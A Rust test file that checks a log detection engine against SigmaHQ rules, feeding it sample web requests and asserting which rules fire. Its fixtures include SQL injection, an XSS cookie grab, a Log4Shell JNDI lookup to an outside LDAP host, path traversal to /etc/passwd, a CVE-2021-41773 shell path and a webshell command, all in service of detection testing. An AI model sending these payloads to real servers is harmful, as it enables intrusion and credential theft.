//! Conformance against SigmaHQ's own rules (`../shared/data/sigmahq`): every rule loads or names an unsupported feature, and web rules match the requests they are written for.

use std::collections::HashSet;
use std::io::Write as _;
use std::path::PathBuf;

use rampart_detect::{CompiledRules, FieldMapping, RuleErrorKind, Scratch, compile_rules, read_rule_dir};
use rampart_model::Event;
use serde_json::{Value, json};

/// The SigmaHQ rules beside the workspace (see `../shared/data/README.md`), when present.
fn sigmahq() -> Option<PathBuf> {
    let dir = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../../../shared/data/sigmahq");
    if dir.is_dir() {
        Some(dir)
    } else {
        // Straight to the stream, not through `println!`, which the test harness captures: the
        // skip shows in the normal test output.
        let _ = writeln!(std::io::stderr(), "skipped: ../shared/data/sigmahq not present");
        None
    }
}

/// Every rule under `dir`, compiled with the built-in mapping; panics on unreadable files.
fn load(dir: &std::path::Path) -> CompiledRules {
    let (files, read_errors) = read_rule_dir(dir);
    assert!(read_errors.is_empty(), "{read_errors:?}");
    compile_rules(&files, &FieldMapping::builtin(), &HashSet::new())
}

/// A web server access record, as the ingest stage makes it.
fn request(method: &str, url: &str, status: u16, user_agent: &str) -> Value {
    json!({
        "event": {"action": "web_request"},
        "source": {"ip": "198.51.100.23"},
        "http": {"request": {"method": method}, "response": {"status_code": status}},
        "url": {"original": url},
        "user_agent": {"original": user_agent},
    })
}

/// The ids of the rules matching an event.
fn matching(compiled: &CompiledRules, fields: Value) -> Vec<String> {
    let event = Event::from_json(fields).expect("a valid event");
    let mut matches = Vec::new();
    compiled.engine.evaluate(&event, &mut Scratch::default(), &mut matches);
    matches.iter().map(|m| m.rule.id.clone()).collect()
}

const BROWSER: &str = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
const SQLI: &str = "5513deaf-f49a-46c2-a6c8-3f111b5cb453";
const XSS: &str = "65354b83-a2ea-4ea6-8414-3ab38be0d409";
const LOG4J: &str = "5ea8faa8-db8b-45be-89b0-151b84c82702";
const TRAVERSAL: &str = "7745c2ea-24a5-4290-b680-04359cb84b35";
const CVE_2021_41773: &str = "3007fec6-e761-4319-91af-e32e20ac43f5";
const RECON_AGENTS: &str = "19aa4f58-94ca-45ff-bc34-92e533c0994a";
const WEBSHELL: &str = "7ff9db12-1b94-4a79-ba68-a2402c5d6729";
const HACKTOOL_PROXY: &str = "c42a3073-30fb-48ae-8c99-c23ada84b103";

#[test]
fn every_sigmahq_rule_loads_or_names_an_unsupported_feature() {
    let Some(dir) = sigmahq() else { return };
    let (files, _) = read_rule_dir(&dir);
    let compiled = load(&dir);
    for error in &compiled.errors {
        println!("refused: {error}");
    }
    let wrongly_refused: Vec<String> =
        compiled.errors.iter().filter(|e| !matches!(e.kind, RuleErrorKind::Unsupported(_))).map(ToString::to_string).collect();
    assert!(wrongly_refused.is_empty(), "SigmaHQ rules refused as invalid:\n{}", wrongly_refused.join("\n"));
    let routed = |category: &str| compiled.rules.iter().filter(|r| r.routed && r.logsource.category.as_deref() == Some(category)).count();
    println!(
        "{} files, {} rules loaded, {} refused; routed: {} webserver, {} proxy; {} not routed",
        files.len(),
        compiled.rules.len(),
        compiled.errors.len(),
        routed("webserver"),
        routed("proxy"),
        compiled.rules.iter().filter(|r| !r.routed).count()
    );
    // SigmaHQ at the commit named in shared/data/README.md: 217 files of one rule each, all loaded.
    assert_eq!(files.len(), 217);
    assert_eq!(compiled.rules.len() + compiled.errors.len(), files.len());
    assert_eq!(compiled.rules.len(), 217);
    assert_eq!(routed("webserver"), 86);
    assert_eq!(routed("proxy"), 29);
    // Every webserver rule is routed: none is left unmatched for want of a logsource route.
    assert!(compiled.rules.iter().filter(|r| r.logsource.category.as_deref() == Some("webserver")).all(|r| r.routed));
    assert_eq!(compiled.engine.len(), 217);
}

#[test]
fn sqlmap_style_injection_is_found_unless_the_page_was_not_found() {
    let Some(dir) = sigmahq() else { return };
    let compiled = load(&dir);
    let sqli = |method: &str, url: &str, status: u16| matching(&compiled, request(method, url, status, BROWSER)).contains(&SQLI.to_owned());
    assert!(sqli("GET", "/products.php?id=1 UNION SELECT username,password FROM users", 200));
    assert!(sqli("GET", "/products.php?id=1%20UNION%20ALL%20SELECT%20NULL,NULL--", 200));
    assert!(sqli("GET", "/item?id=1' or 1=1#", 500));
    assert!(sqli("get", "/search?q=x' AND (SELECT 1 FROM information_schema.tables)", 200));
    // The rule's filter: a 404 is a failed probe.
    assert!(!sqli("GET", "/products.php?id=1 UNION SELECT username,password FROM users", 404));
    // Only GET requests.
    assert!(!sqli("POST", "/products.php?id=1 UNION SELECT username,password FROM users", 200));
    assert!(!sqli("GET", "/products.php?id=17&sort=price", 200));
    // With the raw log line present, keywords search it (and only it).
    let mut raw = request("GET", "/products.php?id=17", 200, BROWSER);
    raw["event"]["original"] = json!("198.51.100.23 - - [05/Mar/2024:13:45:30 +0000] \"GET /p?id=1 union select 1 HTTP/1.1\" 200 512");
    assert!(matching(&compiled, raw.clone()).contains(&SQLI.to_owned()));
    raw["event"]["original"] = json!("198.51.100.23 - - [05/Mar/2024:13:45:30 +0000] \"GET /p?id=17 HTTP/1.1\" 200 512");
    raw["url"]["original"] = json!("/p?id=1 union select 1");
    assert!(!matching(&compiled, raw).contains(&SQLI.to_owned()));
}

#[test]
fn sigmahq_web_rules_match_the_attacks_they_describe() {
    let Some(dir) = sigmahq() else { return };
    let compiled = load(&dir);
    let hits = |url: &str, status: u16, agent: &str| matching(&compiled, request("GET", url, status, agent));
    // Cross-site scripting, with the same 404 filter.
    assert!(hits("/search?q=<script>alert(document.cookie)</script>", 200, BROWSER).contains(&XSS.to_owned()));
    assert!(!hits("/search?q=<script>alert(document.cookie)</script>", 404, BROWSER).contains(&XSS.to_owned()));
    // Log4Shell in any field (keywords), except Nessus' own probe.
    assert!(hits("/", 200, "${jndi:ldap://203.0.113.9:1389/a}").contains(&LOG4J.to_owned()));
    assert!(hits("/?x=%24%7bjndi:ldap://x/a%7d", 200, BROWSER).contains(&LOG4J.to_owned()));
    assert!(!hits("/", 200, "${jndi:ldap://w.nessus.org/nessus}").contains(&LOG4J.to_owned()));
    // Path traversal.
    assert!(hits("/download?file=../../../etc/passwd", 200, BROWSER).contains(&TRAVERSAL.to_owned()));
    assert!(!hits("/download?file=report.pdf", 200, BROWSER).contains(&TRAVERSAL.to_owned()));
    // CVE-2021-41773: the path and a success status.
    assert!(hits("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 200, BROWSER).contains(&CVE_2021_41773.to_owned()));
    assert!(!hits("/cgi-bin/.%2e/.%2e/.%2e/bin/sh", 403, BROWSER).contains(&CVE_2021_41773.to_owned()));
    // Scanner user agents, case-insensitively.
    assert!(hits("/", 200, "sqlmap/1.7.2#stable (https://sqlmap.org)").contains(&RECON_AGENTS.to_owned()));
    assert!(hits("/", 200, "Mozilla/5.00 (NIKTO/2.5.0)").contains(&RECON_AGENTS.to_owned()));
    // `all of selection_*`: a webshell command in a GET request.
    assert!(hits("/uploads/shell.aspx?cmd=whoami", 200, BROWSER).contains(&WEBSHELL.to_owned()));
    assert!(!matching(&compiled, request("POST", "/uploads/shell.aspx?cmd=whoami", 200, BROWSER)).contains(&WEBSHELL.to_owned()));
    // An ordinary request matches nothing.
    assert_eq!(hits("/products/42?colour=blue", 200, BROWSER), Vec::<String>::new());
    // Proxy rules see proxy records only.
    let proxied =
        json!({"event": {"dataset": "proxy"}, "url": {"original": "http://example.com/"}, "user_agent": {"original": "sqlmap/1.7"}});
    assert!(matching(&compiled, proxied).contains(&HACKTOOL_PROXY.to_owned()));
    assert!(!hits("/", 200, "sqlmap/1.7").contains(&HACKTOOL_PROXY.to_owned()));
}
